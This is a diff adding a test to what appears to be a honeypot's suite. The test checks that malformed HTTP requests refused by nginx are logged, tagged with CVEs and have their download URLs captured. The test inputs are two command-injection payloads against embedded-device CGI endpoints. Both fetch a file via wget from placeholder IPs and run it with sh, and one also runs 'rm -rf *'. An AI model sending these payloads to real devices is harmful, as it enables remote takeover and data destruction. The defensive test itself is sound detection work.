@@ -250,6 +250,37 @@ def http_last_answer_leaves_with_the_fin(ctx):
 
 
 @case
+def http_refused_requests_classified(ctx):
+    """A request nginx refuses is still an attack to record: exploits for embedded servers that take
+    any request line put shell commands with raw blanks in the URL.  They get nginx's 400, and their
+    http.bad_request carries the loosely split method and target, the classification and the
+    commands, whose URLs reach the capture pipeline; on the web port and through the trap."""
+    d = web_daemon(ctx, "http-refused")
+    dsl = (b"GET /login.cgi?cli=aa aa';wget http://192.0.2.31/x -O -> /tmp/r;sh /tmp/r'$ HTTP/1.1\r\n"
+           b"Host: 198.51.100.7\r\nUser-Agent: Hello, world\r\n\r\n")
+    jaws = b"GET /shell?cd /tmp;rm -rf *;wget http://192.0.2.32/jaws;sh /tmp/jaws HTTP/1.0\r\n\r\n"
+    junk = b"\x16\x00\x01 not a request\r\n\r\n"
+    replies = [send_and_close(d.svc("web").port, dsl)[1], send_and_close(d.svc("trap").port, jaws)[1],
+               send_and_close(d.svc("web").port, junk)[1]]
+    for r in replies:
+        assert r.startswith(b"HTTP/1.1 400 Bad Request\r\n") and b"<center>nginx" in r, r[:300]
+    evs = stop_and_read(d)
+    bad = {e["raw"][:12]: e for e in evs if e["eventid"] == "http.bad_request"}
+    assert len(bad) == 3, [e["raw"] for e in bad.values()]
+    e = bad[dsl.decode()[:12]]
+    assert e["method"] == "GET" and e["uri"] == "/login.cgi?cli=aa aa';wget http://192.0.2.31/x -O -> /tmp/r;sh /tmp/r'$", e
+    assert "command-injection" in e["attack_classes"] and e["cves"] == ["CVE-2016-20017"], e
+    assert ["wget", "http://192.0.2.31/x", "-O", "-"] in e["injected"], e
+    e = bad[jaws.decode()[:12]]
+    assert e["service"] == "trap" and e["uri"] == "/shell?cd /tmp;rm -rf *;wget http://192.0.2.32/jaws;sh /tmp/jaws", e
+    assert "CVE-2016-20016" in e["cves"] and "rce" in e["attack_classes"], e
+    e = [x for x in bad.values() if x["raw"].startswith("\x16")][0]
+    assert "method" not in e and "attack_classes" not in e, e     # nothing to split
+    urls = {x["url"] for x in evs if x["eventid"].startswith("session.file_download")}
+    assert {"http://192.0.2.31/x", "http://192.0.2.32/jaws"} <= urls, urls
+
+
+@case
 def http_on_trap_ports_and_chunked_pipelined(ctx):
     """The trap hands HTTP over on any port; chunked bodies and pipelined requests are parsed."""
     d = web_daemon(ctx, "http-trap")
